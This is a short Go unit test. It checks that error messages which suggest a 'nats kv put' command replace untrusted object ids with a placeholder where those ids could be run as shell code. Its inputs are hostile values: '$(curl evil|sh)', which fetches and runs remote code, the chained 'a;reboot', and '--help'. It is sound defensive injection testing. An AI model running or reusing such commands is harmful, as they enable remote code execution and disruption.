package record

import (
	"strings"
	"testing"
)

// TestWhatIsToBeTypedIsNothingThatAShellRuns: an id comes from objects that anybody may have written.
func TestWhatIsToBeTypedIsNothingThatAShellRuns(t *testing.T) {
	c := NewClaim(NewBucket(nil, "sites-status", nil), "sites", "")
	for id, typed := range map[string]string{
		"76Kl1oGvXDeExtMSPnRg2E": "76Kl1oGvXDeExtMSPnRg2E", "shop.eu-1_a": "shop.eu-1_a",
		"$(curl evil|sh)": "ID", "a b": "ID", "a;reboot": "ID", "--help": "ID",
	} {
		want := "nats kv put sites-status _nagi.instance " + typed
		seen := Sightings{id: {Objects: 1}}
		if text := c.undecided(seen).Error(); !strings.Contains(text, want+",") {
			t.Errorf("%q does not say %q", text, want)
		}
		if text := c.contradiction(seen, id, "other", "").Error(); !strings.Contains(text, want+".") {
			t.Errorf("%q does not say %q", text, want)
		}
	}
}
